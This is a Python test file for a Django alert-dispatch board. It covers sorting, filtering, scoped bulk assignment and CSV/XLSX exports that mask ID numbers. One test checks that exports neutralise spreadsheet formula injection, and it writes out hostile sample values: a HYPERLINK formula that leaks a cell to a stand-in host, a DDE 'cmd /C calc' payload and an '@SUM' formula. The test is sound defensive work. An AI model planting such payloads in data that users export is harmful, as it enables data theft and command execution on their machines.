"""The dispatch board's order, filters and returned alerts; exports of the filtered, scoped list."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cases.models import Assignment
from tests.conftest import SOURCE_KEY


def _rows(body: str) -> list[int]:
    import re

    return [int(x) for x in re.findall(r'<tr data-alert="(\d+)"', body)]


def test_the_dispatch_board_sorts_by_risk_then_age_and_filters(people, make_alert, org, client_for):
    old_blue = make_alert(risk_level="blue", domain="land")
    new_red = make_alert(risk_level="red", domain="procurement")
    old_red = make_alert(risk_level="red", domain="procurement")
    type(old_red).objects.filter(pk=old_red.pk).update(created_at=timezone.now() - timedelta(days=10))
    type(old_blue).objects.filter(pk=old_blue.pk).update(created_at=timezone.now() - timedelta(days=10))
    c = client_for(people.kunshan_supervisor)
    assert _rows(c.get(reverse("web:dispatch")).content.decode()) == [old_red.pk, new_red.pk, old_blue.pk]
    assert _rows(c.get(reverse("web:dispatch") + "?risk=red&age=3").content.decode()) == [old_red.pk]
    assert _rows(c.get(reverse("web:dispatch") + "?domain=land").content.decode()) == [old_blue.pk]
    assert _rows(c.get(reverse("web:dispatch") + "?unit=changshu").content.decode()) == []


def test_the_dispatch_board_shows_returned_alerts_and_why(people, make_alert, client_for):
    alert = make_alert()
    Assignment.objects.create(alert=alert, assignee=people.kunshan_verifier, assigned_by=people.kunshan_supervisor,
                              returned_at=timezone.now(), return_reason="线索不属于本辖区")
    body = client_for(people.kunshan_supervisor).get(reverse("web:dispatch")).content.decode()
    assert "线索不属于本辖区" in body


def test_bulk_assign_refuses_the_whole_batch_when_the_verifier_cannot_take_one(people, make_alert, org,
                                                                              client_for):
    ours, theirs = make_alert(org_unit=org.kunshan), make_alert(org_unit=org.changshu)
    c = client_for(people.city_supervisor)
    r = c.post(reverse("web:dispatch_bulk"), {
        "alert_ids": [ours.pk, theirs.pk], "action": "assign", "assignee": people.kunshan_verifier.pk,
    }, follow=True)
    ours.refresh_from_db(), theirs.refresh_from_db()
    # Never half done: nothing is assigned, and the message names the alert that did not fit.
    assert ours.status == "warning" and theirs.status == "warning"
    assert f"#{theirs.pk}" in r.content.decode()


def test_csv_export_has_a_bom_and_only_the_filtered_scoped_rows(people, make_alert, org, client_for):
    mine = make_alert(title="昆山红色", risk_level="red", subject_id_number="320583199001011234")
    make_alert(title="昆山蓝色", risk_level="blue")
    make_alert(title="常熟红色", risk_level="red", org_unit=org.changshu)
    r = client_for(people.kunshan_supervisor).get(reverse("web:alert_export_csv") + "?risk=red")
    assert r.status_code == 200 and r["Content-Disposition"].startswith("attachment")
    raw = b"".join(r.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["昆山红色"]
    assert rows[1][0] == str(mine.pk)
    assert "3205**********1234" in rows[1] and "320583199001011234" not in raw.decode("utf-8-sig")


def test_xlsx_export_is_scoped(people, make_alert, org, client_for):
    make_alert(title="常熟", org_unit=org.changshu)
    make_alert(title="昆山", org_unit=org.kunshan)
    r = client_for(people.changshu_leader).get(reverse("web:alert_export_xlsx"))
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    titles = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert titles == ["常熟"]


FORMULA = '=HYPERLINK("http://x?leak="&A2,"x")'


def test_exports_neutralise_formulas_in_every_cell(people, source, api, client_for):
    """A title pushed by a business system must not run as a formula in Excel (CSV injection)."""
    feed = api()
    feed.credentials(HTTP_AUTHORIZATION=f"Api-Key {SOURCE_KEY}")
    r = feed.post("/api/v1/intake/alerts/", {
        "dedup_key": "inj-1", "title": FORMULA, "risk_level": "red", "org_unit": "kunshan",
        "subject": {"name": "@SUM(1+1)"}, "rule": "+cmd|' /C calc'!A0"}, format="json")
    assert r.status_code == 201, r.content
    c = client_for(people.kunshan_supervisor)
    raw = b"".join(c.get(reverse("web:alert_export_csv")).streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(raw)))[1]
    assert row[1] == "'" + FORMULA and row[9] == "'@SUM(1+1)" and row[8].startswith("'+")
    ws = load_workbook(io.BytesIO(b"".join(c.get(reverse("web:alert_export_xlsx")).streaming_content))).active
    cells = next(ws.iter_rows(min_row=2, max_row=2))
    assert cells[1].value == "'" + FORMULA and cells[1].data_type == "s"
    # Nothing in the sheet is a formula; amounts and dates are typed values (issue 13), never text
    # that a spreadsheet could run.
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row if cell.value is not None)


def test_the_list_filters_drill_down_from_the_dashboard(people, make_alert, org, client_for):
    closed = make_alert(status="closed", closed_at=timezone.now())
    make_alert()
    c = client_for(people.city_leader)
    body = c.get(reverse("web:alert_list") + "?state=closed&unit=kunshan").content.decode()
    assert _rows(body) == [closed.pk]
    dash = c.get(reverse("web:dashboard")).content.decode()
    assert "state=closed" in dash and "unit=kunshan" in dash
